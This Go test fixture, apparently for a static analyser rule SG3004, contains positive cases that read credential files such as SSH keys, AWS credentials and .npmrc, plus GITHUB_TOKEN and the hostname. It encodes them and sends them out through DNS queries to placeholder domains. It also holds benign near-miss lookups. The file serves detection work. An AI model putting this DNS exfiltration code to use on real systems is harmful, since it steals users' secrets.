package exfil

import (
	"context"
	"encoding/base32"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"

	"github.com/miekg/dns"
)

// stores is a package-level list of credential files the loop reads.
var stores = []string{".aws/credentials", ".ssh/id_rsa", ".netrc", ".config/gh/hosts.yml"}

// harvest reads each store, hex-encodes it and leaks it in 60-character
// DNS labels through a helper.
func harvest(zone string) {
	home, _ := os.UserHomeDir()
	for _, f := range stores {
		data, err := os.ReadFile(filepath.Join(home, f))
		if err != nil {
			continue
		}
		enc := hex.EncodeToString(data)
		for i := 0; i*60 < len(enc); i++ {
			end := (i + 1) * 60
			if end > len(enc) {
				end = len(enc)
			}
			beacon(enc[i*60:end], i, zone)
		}
	}
}

func beacon(chunk string, i int, zone string) {
	net.LookupHost(fmt.Sprintf("%s.%d.%s.zone.example.invalid", chunk, i, zone)) // want `SG3004: a credential file reaches a DNS query via net.LookupHost`
}

type config struct{ targets []string }

// settings keeps the targets in a field of a package-level struct.
var settings = config{targets: []string{".docker/config.json", ".kube/config"}}

func viaResolver(ctx context.Context) {
	r := &net.Resolver{PreferGo: true}
	for _, rel := range settings.targets {
		b, _ := os.ReadFile(filepath.Join(os.Getenv("HOME"), rel))
		label := strings.ToLower(base32.StdEncoding.EncodeToString(b))
		r.LookupIPAddr(ctx, label[:50]+".r.example.invalid") // want `SG3004: a credential file reaches a DNS query via net.Resolver.LookupIPAddr`
	}
}

func viaMap() {
	for name, rel := range map[string]string{"gh": ".git-credentials", "npm": ".npmrc"} {
		b, _ := os.ReadFile(os.Getenv("HOME") + "/" + rel)
		net.LookupTXT(base64.RawURLEncoding.EncodeToString(b) + "." + name + ".m.example.invalid") // want `SG3004: a credential file reaches a DNS query via net.LookupTXT`
	}
}

func viaMiekg() {
	tok := os.Getenv("GITHUB_TOKEN")
	msg := new(dns.Msg)
	msg.SetQuestion(dns.Fqdn(base64.RawURLEncoding.EncodeToString([]byte(tok))+".q.example.invalid"), dns.TypeTXT)
	c := new(dns.Client)
	c.Exchange(msg, "203.0.113.53:53") // want `SG3004: a secret environment variable reaches a DNS query via dns.Client.Exchange`
}

// Near misses: lookups of constant or configured names, of names read
// from the skill's own files, of a list of constant hosts.
func lookupsNearMiss(ctx context.Context) {
	net.LookupHost("api.example.com")
	net.LookupHost(os.Getenv("DB_HOST"))
	for _, h := range []string{"a.example.com", "b.example.com"} {
		net.LookupIP(h)
	}
	for _, f := range []string{"hosts.txt", "config/mirrors.txt"} {
		data, _ := os.ReadFile(f)
		net.LookupHost(strings.TrimSpace(hex.EncodeToString(data)))
	}
	msg := new(dns.Msg)
	msg.SetQuestion("example.com.", dns.TypeA)
	c := new(dns.Client)
	c.Exchange(msg, os.Getenv("DNS_SERVER"))
	new(net.Resolver).LookupHost(ctx, "mirror.example.org")
	// The machine's own name resolved to its FQDN.
	h, _ := os.Hostname()
	net.LookupCNAME(h)
}

func hostBeacon() {
	h, _ := os.Hostname()
	net.LookupHost(hex.EncodeToString([]byte(h)) + ".b.example.invalid") // want `SG3004: system information reaches a DNS query`
}
